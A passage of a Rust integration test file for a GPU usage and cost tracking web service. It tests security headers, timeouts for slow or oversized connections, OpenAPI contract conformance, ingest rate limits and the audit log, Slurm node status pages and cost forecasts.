        "{reply}"
    );
    assert!(
        rejected[1].1.contains("raw-sample retention (14 days)"),
        "{reply}"
    );
    assert_eq!(reply["accepted"]["gpus"], 1, "{reply}");
    assert_eq!(
        reply["accepted"]["allocations"], 1,
        "a pod running for two months is kept"
    );
    // No hour of 1970 anywhere.
    assert_eq!(app.get(&format!("/api/v1/gpus/{A}")).await.0, 404);
    let detail = app
        .get_json(
            "/api/v1/gpus/GPU-cccccccc-0000-0000-0000-000000000003?from=1970-01-01&to=2026-12-03",
        )
        .await;
    let first = detail["hours"][0]["hour"]
        .as_str()
        .unwrap_or("none")
        .to_string();
    assert!(first.starts_with("2026-"), "first hour {first}");
}

/// Issue 14: pages and API answers carried no security headers. Every answer now has a content
/// security policy without inline script or style, `nosniff`, frame denial and no referrer, and
/// the pages hold no inline script or style for the policy to block.
#[tokio::test]
async fn security_headers_on_every_page_and_api_response() {
    let app = app(WebConfig::default()).await;
    page_fleet(&app).await;
    let mut paths = vec![
        "/".to_string(),
        "/inventory".into(),
        format!("/gpus/{A}"),
        "/teams".into(),
        "/teams/nlp".into(),
        "/usage".into(),
        "/waste".into(),
        "/sources".into(),
        "/inventory?csv=inventory".into(),
        "/api/v1/gpus".into(),
        "/api/v1/summary?format=csv".into(),
        "/api/v1/openapi.json".into(),
        "/healthz".into(),
        "/readyz".into(),
        "/no-such-page".into(),
        "/inventory?sort=nope".into(),
    ];
    let (_, html) = app.get("/").await;
    let assets: Vec<String> = html
        .split(['"', '\''])
        .filter(|s| s.starts_with("/static/"))
        .map(String::from)
        .collect();
    assert!(
        assets.len() >= 2,
        "the stylesheet and the script are files: {assets:?}"
    );
    paths.extend(assets);
    for path in &paths {
        let resp = app
            .client
            .get(format!("{}{path}", app.base))
            .send()
            .await
            .unwrap();
        let status = resp.status().as_u16();
        let h = resp.headers().clone();
        let body = resp.text().await.unwrap();
        let get = |name: &str| {
            h.get(name)
                .and_then(|v| v.to_str().ok())
                .unwrap_or_else(|| panic!("{path} ({status}): no {name}"))
                .to_string()
        };
        let csp = get("content-security-policy");
        for part in [
            "default-src 'none'",
            "script-src 'self'",
            "style-src 'self'",
            "frame-ancestors 'none'",
            "base-uri 'none'",
            "form-action 'self'",
        ] {
            assert!(csp.contains(part), "{path}: {csp}");
        }
        assert!(!csp.contains("unsafe"), "{path}: {csp}");
        assert_eq!(get("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(get("x-frame-options"), "DENY", "{path}");
        assert_eq!(get("referrer-policy"), "no-referrer", "{path}");
        if get("content-type").starts_with("text/html") {
            // Nothing inline for the policy to block.
            assert!(!body.contains("<style"), "{path}: inline <style>");
            assert!(!body.contains(" style="), "{path}: a style attribute");
            for tag in body.split("<script").skip(1) {
                assert!(
                    tag.trim_start().starts_with("src="),
                    "{path}: inline script"
                );
            }
            for handler in [" onclick=", " onchange=", " onload=", " onsubmit="] {
                assert!(!body.contains(handler), "{path}: an inline event handler");
            }
        }
    }
    let (status, _) = app.push(None, b"{}".to_vec(), false).await;
    assert_eq!(status, 401);
    let resp = app
        .client
        .post(format!("{}/api/v1/ingest", app.base))
        .body("{}")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 401);
    assert_eq!(resp.headers()["x-frame-options"], "DENY");
}

// ---------------------------------------------------------------------------------------------
// conn_*: clients that send slowly, not at all, or too much (issue 14: such connections stayed
// open indefinitely, and 300 of them made /healthz stop answering).

/// Short limits, so that the tests see them act.
fn quick_limits() -> WebConfig {
    WebConfig {
        server: ServerLimits {
            header_timeout: Duration::from_secs(1),
            body_timeout: Duration::from_secs(1),
            ..ServerLimits::default()
        },
        ..WebConfig::default()
    }
}

async fn connect(app: &App) -> TcpStream {
    TcpStream::connect(app.base.trim_start_matches("http://"))
        .await
        .unwrap()
}

/// What the server sent until it closed the connection, and when it closed it (`None`: still
/// open after `within`).
async fn read_until_closed(s: &mut TcpStream, within: Duration) -> (String, Option<Duration>) {
    let start = Instant::now();
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        match tokio::time::timeout_at(start + within, s.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => {
                return (String::from_utf8_lossy(&got).into(), Some(start.elapsed()))
            }
            Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
            Err(_) => return (String::from_utf8_lossy(&got).into(), None),
        }
    }
}

fn ingest_head(token: &str, content_length: u64) -> String {
    format!(
        "POST /api/v1/ingest HTTP/1.1\r\nHost: t\r\nAuthorization: Bearer {token}\r\n\
         Content-Type: application/json\r\nContent-Length: {content_length}\r\n\r\n"
    )
}

/// Send `bytes` one at a time, `every` apart, until the connection fails.
fn trickle(mut w: tokio::net::tcp::OwnedWriteHalf, bytes: Vec<u8>, every: Duration) {
    tokio::spawn(async move {
        for b in bytes {
            tokio::time::sleep(every).await;
            if w.write_all(&[b]).await.is_err() {
                return;
            }
        }
    });
}

#[tokio::test]
async fn conn_a_slow_body_is_cut_off_at_the_body_timeout() {
    let app = app(quick_limits()).await;
    let token = app.token("slow", &[]).await;
    let s = connect(&app).await;
    let (mut r, mut w) = s.into_split();
    w.write_all(ingest_head(&token, 1000).as_bytes())
        .await
        .unwrap();
    trickle(w, vec![b' '; 1000], Duration::from_millis(300));
    let start = Instant::now();
    let mut got = Vec::new();
    let closed = loop {
        let mut buf = [0u8; 4096];
        match tokio::time::timeout_at(start + Duration::from_secs(6), r.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => break Some(start.elapsed()),
            Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
            Err(_) => break None,
        }
    };
    let got = String::from_utf8_lossy(&got);
    let closed = closed.unwrap_or_else(|| panic!("still open after 6 s; got {got:?}"));
    assert!(got.starts_with("HTTP/1.1 408"), "{got}");
    assert!(
        got.contains("body_timeout_secs") || got.contains("within"),
        "{got}"
    );
    assert!(closed < Duration::from_secs(3), "closed after {closed:?}");
}

#[tokio::test]
async fn conn_a_slow_head_or_an_idle_connection_is_closed_at_the_header_timeout() {
    let app = app(quick_limits()).await;
    // Connected, nothing sent.
    let mut idle = connect(&app).await;
    // A head sent a byte at a time.
    let (mut slow_r, slow_w) = connect(&app).await.into_split();
    trickle(
        slow_w,
        b"GET /healthz HTTP/1.1\r\nHost: t\r\nX-Pad: aaaaaaaaaaaaaaaaaaaa\r\n\r\n".to_vec(),
        Duration::from_millis(300),
    );
    // One request answered, then kept alive and idle.
    let mut kept = connect(&app).await;
    kept.write_all(b"GET /healthz HTTP/1.1\r\nHost: t\r\n\r\n")
        .await
        .unwrap();
    let (idle_got, idle_closed) = read_until_closed(&mut idle, Duration::from_secs(6)).await;
    let mut buf = [0u8; 4096];
    let start = Instant::now();
    let slow_closed = loop {
        match tokio::time::timeout_at(start + Duration::from_secs(6), slow_r.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => break Some(start.elapsed()),
            Ok(Ok(_)) => {}
            Err(_) => break None,
        }
    };
    let (kept_got, kept_closed) = read_until_closed(&mut kept, Duration::from_secs(6)).await;
    assert!(kept_got.starts_with("HTTP/1.1 200"), "{kept_got}");
    for (what, closed) in [
        ("idle", idle_closed),
        ("slow head", slow_closed),
        ("kept alive", kept_closed),
    ] {
        let closed = closed.unwrap_or_else(|| panic!("{what}: still open after 6 s"));
        assert!(
            closed < Duration::from_secs(3),
            "{what}: closed after {closed:?}"
        );
    }
    assert!(!idle_got.contains("200"), "{idle_got}");
}

#[tokio::test]
async fn conn_a_declared_length_over_the_limit_gets_413_before_the_body() {
    let app = app(WebConfig::default()).await;
    let token = app.token("big", &[]).await;
    let mut s = connect(&app).await;
    s.write_all(ingest_head(&token, 100_000_000).as_bytes())
        .await
        .unwrap();
    let (got, closed) = read_until_closed(&mut s, Duration::from_secs(3)).await;
    assert!(got.starts_with("HTTP/1.1 413"), "{got:?}");
    assert!(got.contains("8388608"), "says the limit: {got}");
    assert!(
        closed.is_some(),
        "the connection is closed, not left to drain"
    );
}

#[tokio::test]
async fn conn_an_ingest_without_a_valid_token_gets_401_before_the_body() {
    let app = app(WebConfig::default()).await;
    for head in [
        ingest_head("glt_not-a-token", 1000),
        "POST /api/v1/ingest HTTP/1.1\r\nHost: t\r\nContent-Length: 1000\r\n\r\n".to_string(),
    ] {
        let mut s = connect(&app).await;
        s.write_all(head.as_bytes()).await.unwrap();
        let (got, closed) = read_until_closed(&mut s, Duration::from_secs(3)).await;
        assert!(got.starts_with("HTTP/1.1 401"), "{got:?}");
        assert!(closed.is_some(), "the unread body is not waited for");
    }
}

/// At the connection limit, a new connection closes the oldest one that is not inside a
/// request; one inside a request (a push whose body is arriving) is left alone.
#[tokio::test]
async fn conn_at_the_connection_limit_the_oldest_idle_connection_makes_room() {
    let app = app(WebConfig {
        server: ServerLimits {
            max_connections: 8,
            ..ServerLimits::default()
        },
        ..WebConfig::default()
    })
    .await;
    let token = app.token("slow", &[]).await;
    let mut pushing = connect(&app).await;
    pushing
        .write_all(ingest_head(&token, 1000).as_bytes())
        .await
        .unwrap();
    pushing.write_all(b"{").await.unwrap();
    let mut idle = Vec::new();
    for _ in 0..20 {
        idle.push(connect(&app).await);
    }
    let start = Instant::now();
    let (status, body) = app.get("/healthz").await;
    assert_eq!((status, body.as_str()), (200, "ok\n"));
    assert!(
        start.elapsed() < Duration::from_secs(2),
        "{:?}",
        start.elapsed()
    );
    let (got, closed) = read_until_closed(&mut pushing, Duration::from_millis(300)).await;
    assert_eq!(
        closed, None,
        "the push in progress keeps its connection: {got:?}"
    );
    let (_, closed) = read_until_closed(&mut idle[0], Duration::from_secs(1)).await;
    assert!(closed.is_some(), "the oldest idle connection made room");
}

/// `/healthz` answers while many slow clients hold connections (idle, a head half sent, a body
/// half sent), with the default limits. `GPULEDGER_SLOW_CONNECTIONS` sets how many (300 by
/// default; over `max_connections`, 512, the oldest idle ones are closed as new ones come);
/// the latencies are printed (docs/configuration.md has the figures).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conn_healthz_answers_while_300_slow_connections_are_held() {
    let n: usize = std::env::var("GPULEDGER_SLOW_CONNECTIONS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(300);
    let app = app(WebConfig::default()).await;
    let token = app.token("slow", &[]).await;
    let mut held = Vec::with_capacity(n);
    for i in 0..n {
        let mut s = connect(&app).await;
        match i % 3 {
            0 => {}
            1 => s
                .write_all(b"POST /api/v1/ingest HTTP/1.1\r\nHost: t\r\n")
                .await
                .unwrap(),
            _ => {
                s.write_all(ingest_head(&token, 1000).as_bytes())
                    .await
                    .unwrap();
                s.write_all(b"{").await.unwrap();
            }
        }
        held.push(s);
    }
    let mut latencies = Vec::new();
    for _ in 0..20 {
        // A new connection each time, as a probe makes.
        let client = reqwest::Client::new();
        let start = Instant::now();
        let resp = client
            .get(format!("{}/healthz", app.base))
            .timeout(Duration::from_secs(5))
            .send()
            .await
            .unwrap_or_else(|e| panic!("/healthz with {n} slow connections held: {e}"));
        assert_eq!(resp.status().as_u16(), 200);
        latencies.push(start.elapsed());
    }
    latencies.sort();
    println!(
        "/healthz with {n} slow connections held: median {:?}, max {:?} (20 requests)",
        latencies[latencies.len() / 2],
        latencies[latencies.len() - 1]
    );
    assert!(
        latencies[latencies.len() - 1] < Duration::from_secs(2),
        "{latencies:?}"
    );
    drop(held);
}

// ---------------------------------------------------------------------------------------------
// contract_*: the OpenAPI document against the running server (issue 19).

/// `v`, or what its `$ref` points at in `doc`.
fn resolve<'a>(doc: &'a Value, v: &'a Value) -> &'a Value {
    match v["$ref"].as_str() {
        Some(r) => doc.pointer(r.trim_start_matches('#')).unwrap(),
        None => v,
    }
}

/// Values a query parameter's schema allows and values it forbids.
fn schema_probes(schema: &Value) -> (Vec<String>, Vec<String>) {
    let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
    if let Some(values) = schema["enum"].as_array() {
        let ok = values.iter().map(|v| v.as_str().unwrap().into()).collect();
        return (ok, s(&["__not_in_enum__", ""]));
    }
    if schema["anyOf"].is_array() {
        return (
            s(&[
                "2026-12-01T10:00:00Z",
                "2026-12-01T10:00:00+02:00",
                "2026-12-01",
            ]),
            s(&["2024-01-01T12:99:00Z", "2024-13-01", "yesterday", ""]),
        );
    }
    match schema["type"].as_str().unwrap() {
        "boolean" => (s(&["true", "false"]), s(&["1", "no", ""])),
        "integer" => {
            let (min, max) = (
                schema["minimum"].as_i64().unwrap(),
                schema["maximum"].as_i64().unwrap(),
            );
            let ok = vec![min.to_string(), max.to_string()];
            let bad = vec![
                (min - 1).to_string(),
                (max + 1).to_string(),
                "1.5".into(),
                "".into(),
            ];
            (ok, bad)
        }
        "string" => {
            let example = schema["example"].as_str().unwrap();
            let mut bad = s(&["", &format!("{example}*"), &"x".repeat(129)]);
            // `range`: the days out of bounds and a sign.
            if schema["pattern"]
                .as_str()
                .unwrap_or_default()
                .contains("730")
            {
                bad.extend(s(&["0d", "731d", "+7d"]));
            }
            (s(&[example]), bad)
        }
        "array" => (s(&["anything", "a,b", ""]), vec![]),
        other => panic!("no probes for {other}: {schema}"),
    }
}

fn query(name: &str, value: &str) -> String {
    form_urlencoded::Serializer::new(String::new())
        .append_pair(name, value)
        .finish()
}

/// Every operation of the served document, on a server with two GPUs: each query parameter's
/// allowed values are taken and its forbidden ones refused with 400 naming it; a parameter the
/// document does not list is refused with 400 naming it (cut to 100 characters); each 200
/// carries a content type the document lists for it.
#[tokio::test]
async fn contract_every_parameter_of_every_operation_is_answered_as_documented() {
    let app = app(WebConfig::default()).await;
    let token = app.token("p", &[]).await;
    app.push(Some(&token), bytes(&inventory()), false).await;
    let doc = app.get_json("/api/v1/openapi.json").await;
    let long = "y".repeat(300);
    for (path, item) in doc["paths"].as_object().unwrap() {
        let url = path.replace("{uuid}", A);
        for (method, op) in item.as_object().unwrap() {
            let at = format!("{method} {path}");
            // A parameter nobody lists, on every operation.
            let unknown = format!("{url}?{long}=1");
            let resp = app
                .client
                .request(
                    method.to_uppercase().parse().unwrap(),
                    format!("{}{unknown}", app.base),
                )
                .bearer_auth(&token)
                .body("{}")
                .send()
                .await
                .unwrap();
            assert_eq!(resp.status(), 400, "{at}: an unknown parameter");
            let body: Value = resp.json().await.unwrap();
            let e = body["error"].as_str().unwrap();
            assert!(e.contains("unknown query parameter `yyy"), "{at}: {e}");
            assert!(!e.contains(&"y".repeat(101)), "{at}: the name is cut: {e}");
            if method != "get" {
                continue;
            }
            let ok = &resolve(&doc, &op["responses"]["200"])["content"];
            let resp = app
                .client
                .get(format!("{}{url}", app.base))
                .send()
                .await
                .unwrap();
            assert_eq!(resp.status(), 200, "{at}");
            let ct = resp.headers()["content-type"].to_str().unwrap().to_string();
            let media = ct.split(';').next().unwrap().trim();
            assert!(
                ok.get(media).is_some(),
                "{at}: answered {ct}, documented {ok}"
            );
            let params = op["parameters"].as_array().cloned().unwrap_or_default();
            for p in params.iter().map(|p| resolve(&doc, p)) {
                let name = p["name"].as_str().unwrap();
                if p["in"] != "query" {
                    continue;
                }
                let (allowed, forbidden) = schema_probes(&p["schema"]);
                for v in allowed {
                    let (status, body) = app.get(&format!("{url}?{}", query(name, &v))).await;
                    assert_eq!(status, 200, "{at}: {name}={v:?} is allowed: {body}");
                }
                for v in forbidden {
                    let (status, body) = app.get(&format!("{url}?{}", query(name, &v))).await;
                    assert_eq!(status, 400, "{at}: {name}={v:?} is forbidden: {body}");
                    assert!(body.contains(name), "{at}: {name}={v:?}: {body}");
                }
            }
            if ok.get("text/csv").is_some() {
                let resp = app
                    .client
                    .get(format!("{}{url}?format=csv", app.base))
                    .send()
                    .await
                    .unwrap();
                assert!(
                    resp.headers()["content-type"]
                        .to_str()
                        .unwrap()
                        .starts_with("text/csv"),
                    "{at}"
                );
            }
        }
    }
}

/// Issue 19: a push none of whose records was kept answered 200, so `curl -f` and clients saw
/// success. It is 422 with every rejection named; a partly kept one stays 200; a body with a
/// key other than the three lists is refused whole.
#[tokio::test]
async fn contract_a_push_with_nothing_kept_is_422() {
    let app = app(WebConfig::default()).await;
    let token = app.token("p", &[]).await;
    let (status, reply) = app
        .push(
            Some(&token),
            bytes(&json!({"samples": [{"gpu_uuid": A}], "allocations": [{"gpu_uuid": A}]})),
            false,
        )
        .await;
    assert_eq!(status, 422, "{reply}");
    assert_eq!(reply["rejected"][0]["path"], "allocations[0]", "{reply}");
    assert!(
        reply["error"].as_str().unwrap().contains("no record"),
        "{reply}"
    );
    assert_eq!(
        reply["accepted"],
        json!({"gpus": 0, "samples": 0, "allocations": 0})
    );
    // Samples of a GPU never reported: refused by the store, still 422.
    let (status, reply) = app
        .push(
            Some(&token),
            bytes(
                &json!({"samples": [{"gpu_uuid": A, "ts": "2026-12-02T11:00:00Z", "util_pct": 5}]}),
            ),
            false,
        )
        .await;
    assert_eq!(status, 422, "{reply}");
    // One record kept: 200 with the rest named.
    let mut body = inventory();
    body["samples"] = json!([{"gpu_uuid": A, "ts": "2026-12-02T11:00:00Z", "util_pct": 250}]);
    let (status, reply) = app.push(Some(&token), bytes(&body), false).await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(
        reply["rejected"][0]["path"], "samples[0].util_pct",
        "{reply}"
    );
    // A misspelt list refuses the body whole: the GPU beside it is not kept.
    let body = json!({
        "gpus": [{"uuid": "GPU-cccccccc-0000-0000-0000-000000000003", "model": "T4",
                  "observed_at": "2026-12-02T11:00:00Z"}],
        "sampels": []
    });
    let (status, reply) = app.push(Some(&token), bytes(&body), false).await;
    assert_eq!(status, 422, "{reply}");
    assert_eq!(reply["rejected"][0]["path"], "sampels", "{reply}");
    assert_eq!(reply["accepted"]["gpus"], 0, "{reply}");
    assert_eq!(app.get_json("/api/v1/gpus").await["count"], 2);
    // An empty body keeps nothing and refuses nothing.
    let (status, _) = app.push(Some(&token), b"{}".to_vec(), false).await;
    assert_eq!(status, 200);
    // `Content-Encoding` is gzip, x-gzip or identity; an empty one is no coding.
    let resp = app
        .client
        .post(format!("{}/api/v1/ingest", app.base))
        .bearer_auth(&token)
        .header("content-encoding", "")
        .body("{}")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 415);
}

/// Per-source rate limit: over it, 429 with `Retry-After` before the body is read, for that
/// source only; every push and refusal is in the audit log, which readers limited to teams
/// cannot read, and refusals are counted on `/metrics` and the sources page.
#[tokio::test]
async fn limits_a_source_over_its_rate_gets_429_and_the_audit_log_has_it() {
    let app = app(WebConfig {
        rate: Some(gpuledger_web::RateLimit {
            records_per_sec: 0.5,
            burst: 3.0,
        }),
        ..Default::default()
    })
    .await;
    let noisy = app.token("noisy", &[]).await;
    let quiet = app.token("quiet", &[]).await;
    // One body over the burst goes through (two GPUs, and two rejected samples: every
    // record counts), and leaves the bucket short.
    let mut body = inventory();
    body["samples"] = json!([
        {"gpu_uuid": A, "ts": "2026-12-02T10:30:00Z", "util_pct": 500},
        {"gpu_uuid": B, "ts": "2026-12-02T10:30:00Z", "util_pct": 500}
    ]);
    let (status, out) = app.push(Some(&noisy), bytes(&body), false).await;
    assert_eq!(status, 200, "{out}");
    let resp = app
        .client
        .post(format!("{}/api/v1/ingest", app.base))
        .bearer_auth(&noisy)
        .body(bytes(&inventory()))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 429);
    let retry: u64 = resp.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=3).contains(&retry), "Retry-After {retry}");
    let err: Value = resp.json().await.unwrap();
    assert!(
        err["error"].as_str().unwrap().contains("records_per_sec"),
        "{err}"
    );
    // Another source is not slowed.
    let (status, out) = app.push(Some(&quiet), bytes(&inventory()), false).await;
    assert_eq!(status, 200, "{out}");
    let (status, _) = app
        .push(Some("glt_unknown"), bytes(&inventory()), false)
        .await;
    assert_eq!(status, 401);

    let log = app
        .get_json("/api/v1/audit?from=2026-12-01&to=2030-01-01")
        .await;
    let items = log["items"].as_array().unwrap();
    let find = |source: &str, action: &str, outcome: &str| {
        items
            .iter()
            .find(|r| r["source"] == source && r["action"] == action && r["outcome"] == outcome)
            .unwrap_or_else(|| panic!("no {source} {action} {outcome} in {log}"))
    };
    let first = find("noisy", "push", "partial");
    assert_eq!(
        (first["requests"].as_i64(), first["records"].as_i64()),
        (Some(1), Some(2))
    );
    assert_eq!(first["rejected"], 2);
    assert_eq!(first["new_gpus"], 2);
    assert_eq!(
        find("noisy", "refused", "429 too many requests")["requests"],
        1
    );
    assert_eq!(find("quiet", "push", "ok")["records"], 2);
    assert_eq!(find("", "refused", "401 unknown token")["requests"], 1);
    assert_eq!(find("noisy", "token.create", "ingest")["requests"], 1);
    // One source's entries, and the CSV.
    let one = app
        .get_json("/api/v1/audit?from=2026-12-01&to=2030-01-01&source=quiet")
        .await;
    assert!(one["items"]
        .as_array()
        .unwrap()
        .iter()
        .all(|r| r["source"] == "quiet"));
    let (status, csv) = app
        .get("/api/v1/audit?from=2026-12-01&to=2030-01-01&format=csv")
        .await;
    assert_eq!(status, 200);
    assert!(
        csv.starts_with("minute,source,actor,action,outcome,requests"),
        "{csv}"
    );
    assert!(csv.contains("429 too many requests"), "{csv}");
    let (status, body) = app.get("/api/v1/audit?source=").await;
    assert_eq!(status, 400, "{body}");

    let (_, metrics) = app.get("/metrics").await;
    assert!(
        metrics.contains(r#"gpuledger_ingest_refused_total{source="noisy",status="429"} 1"#),
        "{metrics}"
    );
    let (_, page) = app.get("/sources").await;
    assert!(page.contains("Refused, 24 h"), "{page}");
}

/// The audit log names every team's sources: a reader limited to a team gets 403.
#[tokio::test]
async fn limits_the_audit_log_is_for_readers_of_every_team() {
    let app = app(WebConfig {
        read_requires_token: true,
        ..Default::default()
    })
    .await;
    let scoped = app
        .store
        .create_token(Role::Viewer, "nlp-view", &["nlp".to_string()])
        .await
        .unwrap();
    let all = app
        .store
        .create_token(Role::Viewer, "central", &[])
        .await
        .unwrap();
    let get = |token: String| {
        app.client
            .get(format!("{}/api/v1/audit", app.base))
            .bearer_auth(token)
            .send()
    };
    assert_eq!(get(scoped).await.unwrap().status().as_u16(), 403);
    assert_eq!(get(all).await.unwrap().status().as_u16(), 200);
    let (status, _) = app.get("/api/v1/audit").await;
    assert_eq!(status, 401);
}

/// A GPU on a drained Slurm node is present but unavailable, and the inventory and GPU pages
/// say so; a GPU of an available node says nothing more.
#[tokio::test]
async fn page_a_drained_slurm_node_shows_unavailable() {
    let app = app(WebConfig::default()).await;
    let token = app.token("slurm-hpc", &[]).await;
    let mut body = inventory();
    body["gpus"][0]["labels"] =
        json!({"team": "nlp", "slurm.available": "false", "slurm.state": "mixed+drain"});
    body["gpus"][1]["labels"] = json!({"team": "vision", "slurm.available": "true"});
    assert_eq!(app.push(Some(&token), bytes(&body), false).await.0, 200);
    let (status, html) = app.get("/inventory").await;
    assert_eq!(status, 200);
    assert_eq!(
        html.matches("present, unavailable: Slurm node mixed+drain")
            .count(),
        1,
        "{html}"
    );
    let (status, html) = app.get(&format!("/gpus/{A}")).await;
    assert_eq!(status, 200);
    assert!(
        html.contains("present, unavailable: Slurm node mixed+drain"),
        "{html}"
    );
    let (_, html) = app.get(&format!("/gpus/{B}")).await;
    assert!(!html.contains("unavailable"), "{html}");
}

/// A Slurm job's accounting averages pushed with its allocation fill the hours no sample
/// measured: the GPU's JSON and CSV name where each hour's activity came from, and the GPU page
/// says how many hours a job's average filled and shows the average beside the allocation.
#[tokio::test]
async fn a_jobs_average_fills_unmeasured_hours_and_every_view_says_so() {
    let app = app(WebConfig::default()).await;
    let token = app.token("slurm", &[]).await;
    let body = json!({
        "gpus": [{"uuid": A, "model": "NVIDIA H100 80GB HBM3", "host": "hpc-1",
                  "labels": {"team": "hpc"}, "observed_at": "2026-12-02T08:00:00Z"}],
        "samples": [{"gpu_uuid": A, "ts": "2026-12-02T08:30:00Z", "util_pct": 70}],
        "allocations": [{"gpu_uuid": A, "start": "2026-12-02T08:00:00Z",
                         "end": "2026-12-02T09:50:00Z", "workload": "4242",
                         "kind": "slurm_job", "user": "ana",
                         "avg_util_pct": 54.0, "avg_mem_used_mib": 7768}]
    });
    let (status, out) = app.push(Some(&token), bytes(&body), false).await;
    assert_eq!(status, 200, "{out}");
    let gpu = app
        .get_json(&format!("/api/v1/gpus/{A}?from=2026-12-02&to=2026-12-03"))
        .await;
    let hours = gpu["hours"].as_array().unwrap();
    // Hour 10 is present (the sample's stale window) and held by nobody: unknown.
    assert_eq!(hours.len(), 3);
    assert!(hours[2]["activity_pct"].is_null() && hours[2]["activity_origin"].is_null());
    let origin: Vec<(&str, f64, &str)> = hours[..2]
        .iter()
        .map(|h| {
            (
                h["hour"].as_str().unwrap(),
                h["activity_pct"].as_f64().unwrap(),
                h["activity_origin"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        origin,
        [
            ("2026-12-02T08:00:00Z", 70.0, "samples"),
            ("2026-12-02T09:00:00Z", 54.0, "allocation average")
        ]
    );
    assert_eq!(gpu["allocations"][0]["avg_util_pct"], 54.0);
    assert_eq!(gpu["allocations"][0]["avg_mem_used_mib"], 7768.0);
    let (status, csv) = app
        .get(&format!(
            "/api/v1/gpus/{A}?from=2026-12-02&to=2026-12-03&format=csv"
        ))
        .await;
    assert_eq!(status, 200);
    let rows = csv_rows(&csv);
    assert_eq!(rows[1]["activity_origin"], "allocation average");
    assert_eq!(rows[1]["mem_origin"], "allocation average");
    // Hour 08: the sample measured activity but no memory, which the job's average fills.
    assert_eq!(
        (
            rows[0]["activity_origin"].as_str(),
            rows[0]["mem_origin"].as_str()
        ),
        ("samples", "allocation average")
    );
    assert_eq!(
        (
            rows[2]["activity_origin"].as_str(),
            rows[2]["mem_origin"].as_str()
        ),
        ("", ""),
        "hour 10: unknown"
    );
    let (status, html) = app
        .get(&format!("/gpus/{A}?from=2026-12-02&to=2026-12-03"))
        .await;
    assert_eq!(status, 200);
    assert!(
        html.contains("<dt>Hours from a job&#39;s average</dt>"),
        "{html}"
    );
    assert!(html.contains("1 of 2 hours with known activity"), "{html}");
    assert!(
        html.contains("54.0 % utilization, 7,768 MiB memory"),
        "{html}"
    );
}

/// `GET /api/v1/forecast`: groups by team, env or cloud and refuses anything else naming
/// `group_by`; a group with under a week of history has no projection (null and a note,
/// never $0); every group's month so far is the summary's cost of the month's days.
#[tokio::test]
async fn query_forecast_groups_and_marks_short_history_unknown() {
    let app = app(WebConfig::default()).await;
    figures_fleet(&app).await;
    for bad in ["model", "cluster", "colour"] {
        let (status, body) = app.get(&format!("/api/v1/forecast?group_by={bad}")).await;
        assert_eq!(status, 400, "{bad}: {body}");
        assert!(body.contains("group_by"), "{body}");
    }
    let fc = app.get_json("/api/v1/forecast?group_by=cloud").await;
    assert_eq!(fc["group_by"], "cloud");
    let month = app
        .get_json("/api/v1/summary?group_by=cloud&from=2026-12-01")
        .await;
    let groups = fc["groups"].as_array().unwrap();
    for g in month["groups"].as_array().unwrap() {
        let f = groups.iter().find(|f| f["key"] == g["key"]).unwrap();
        assert_eq!(
            cents(f["month_to_date_usd"].as_f64().unwrap()),
            cents(g["cost_usd"].as_f64().unwrap()),
            "{}",
            g["key"]
        );
    }
    // gcp's only GPU arrived on 2026-11-30, part-way: one complete day after it.
    let gcp = groups.iter().find(|f| f["key"] == "gcp").unwrap();
    assert_eq!(gcp["basis"]["days"], 1);
    assert!(
        gcp["month_end_usd"].is_null() && gcp["demand"].is_null(),
        "{gcp}"
    );
    assert!(gcp["note"].as_str().unwrap().contains("not enough history"));
    assert!(gcp["month_to_date_usd"].as_f64().unwrap() > 0.0);
    // aws since 2026-11-19: a forecast with its range, and demand per model.
    let aws = groups.iter().find(|f| f["key"] == "aws").unwrap();
    let me = &aws["month_end_usd"];
    assert!(me["low"].as_f64() <= me["expected"].as_f64(), "{me}");
    assert!(me["expected"].as_f64() <= me["high"].as_f64(), "{me}");
    assert_eq!(me["from"], "2026-12-01");
    assert_eq!(aws["next_quarter_usd"]["from"], "2027-01-01");
    assert_eq!(aws["month_days"].as_array().unwrap().len(), 31);
    assert!(fc["models"]
        .as_array()
        .unwrap()
        .iter()
        .any(|m| m["key"] == "NVIDIA L4"));
}
